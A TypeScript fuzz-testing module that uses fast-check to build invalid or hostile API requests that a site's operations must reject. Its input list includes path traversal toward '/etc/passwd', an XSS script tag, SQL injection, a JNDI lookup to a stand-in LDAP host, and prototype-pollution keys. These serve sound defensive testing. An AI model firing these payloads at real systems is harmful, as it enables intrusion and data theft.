import fc from 'fast-check';
import { operations } from '../contract/operations/operations.ts';
import { needsToken, type Route } from '../contract/operations/route.ts';
import { type OperationName, routes } from '../contract/operations/routes.ts';
import { acceptableRequests } from './acceptable-requests.ts';

export interface Attempt {
  name: OperationName;
  query: string;
  headers: Record<string, string>;
  body: string | undefined;
}

const hostile = fc.constantFrom<unknown>(
  '',
  ' ',
  '\u0000',
  '\ud800',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the string must contain it
  '${jndi:ldap://example.test/a}',
  '%00',
  'a'.repeat(10_000),
  -1,
  0,
  1e308,
  Number.MAX_SAFE_INTEGER,
  null,
  [],
  {},
  [[[[[[]]]]]],
  true,
);
const anything = fc.oneof(hostile, fc.jsonValue(), fc.string({ unit: 'binary', maxLength: 200 }));

/** Names that every object has without being given them. */
const inherited = fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty');

/** An acceptable request with one field changed, removed or added gets furthest into a function. */
function spoiled(valid: Record<string, unknown>) {
  const fields = Object.keys(valid);
  const withAnother = fc
    .tuple(fc.oneof(fc.string({ minLength: 1, maxLength: 20 }), inherited), anything)
    .map(([field, value]) => ({ ...valid, ...Object.fromEntries([[field, value]]) }));
  if (fields.length === 0) return withAnother;
  return fc.oneof(
    fc.tuple(fc.constantFrom(...fields), anything).map(([field, value]) => ({ ...valid, [field]: value })),
    fc
      .constantFrom(...fields)
      .map((left) => Object.fromEntries(Object.entries(valid).filter(([field]) => field !== left))),
    withAnother,
  );
}

const envelope = (data: unknown) => JSON.stringify({ data });

function bodyFor(name: OperationName, siteUrl: string): fc.Arbitrary<string> {
  const valid = acceptableRequests(siteUrl)[name];
  return fc.oneof(
    { weight: 4, arbitrary: (valid ? spoiled(valid) : anything).map(envelope) },
    { weight: 2, arbitrary: anything.map(envelope) },
    { weight: 1, arbitrary: anything.map((value) => JSON.stringify(value) ?? '') },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  );
}

/** A request of one of the operations, usually invalid in one place. */
const attempt = (siteUrl: string, names: OperationName[]): fc.Arbitrary<Attempt> =>
  fc.constantFrom(...names).chain((name) =>
    fc
      .record({
        query: fc.oneof(
          { weight: 3, arbitrary: fc.constant('') },
          {
            weight: 1,
            arbitrary: fc
              .dictionary(fc.string({ minLength: 1, maxLength: 10 }), fc.string({ maxLength: 60 }), {
                minKeys: 1,
                maxKeys: 3,
              })
              .map(
                (pairs) =>
                  `?${new URLSearchParams(Object.entries(pairs).map(([n, v]) => [n, v.toWellFormed()]))}`,
              ),
          },
          {
            weight: 1,
            arbitrary: fc.constantFrom(
              '?token=a.b',
              '?token=',
              '?userId=somebody',
              '?constructor=1&__proto__=2',
              '?%',
              '?a=1&a=2',
            ),
          },
        ),
        contentType: fc.constantFrom(
          'application/json',
          'text/plain',
          'application/x-www-form-urlencoded',
          'x/y',
        ),
        isSignedIn: fc.boolean(),
        signature: fc.option(fc.stringMatching(/^[\x20-\x7e]{0,80}$/)),
        body: bodyFor(name, siteUrl),
      })
      .map(({ query, contentType, isSignedIn, signature, body }) => ({
        name,
        query,
        headers: {
          'content-type': contentType,
          ...(isSignedIn ? { authorization: 'signed in' } : {}),
          ...(signature === null ? {} : { 'stripe-signature': signature.trim() }),
        },
        body: routes[name].method === 'GET' ? undefined : body,
      })),
  );

/** Whether the operation accepts it: then a change is allowed. */
function isBad({ name, query, body, headers }: Attempt): boolean {
  const { method, caller }: Route = routes[name];
  // No generated request is signed.
  if (caller === 'stripe' || caller === 'mail program' || name === 'unsubscribe') return true;
  if ((needsToken(caller) || caller === 'updater') && !headers.authorization) return true;
  if (method === 'GET') return query !== '';
  try {
    return !operations[name].request.safeParse(JSON.parse(body ?? '').data).success;
  } catch {
    return true;
  }
}

const allNames = Object.keys(routes) as OperationName[];

/** Requests that every operation must refuse. The seed repeats them. */
export function badRequests(
  siteUrl: string,
  numRuns: number,
  names = allNames,
): { seed: number; attempts: Iterator<Attempt> & Iterable<Attempt> } {
  const seed = Number(process.env.SEED ?? Date.now() % 2 ** 31);
  const attempts = fc.sample(attempt(siteUrl, names).filter(isBad), { numRuns, seed }).values();
  return { seed, attempts };
}
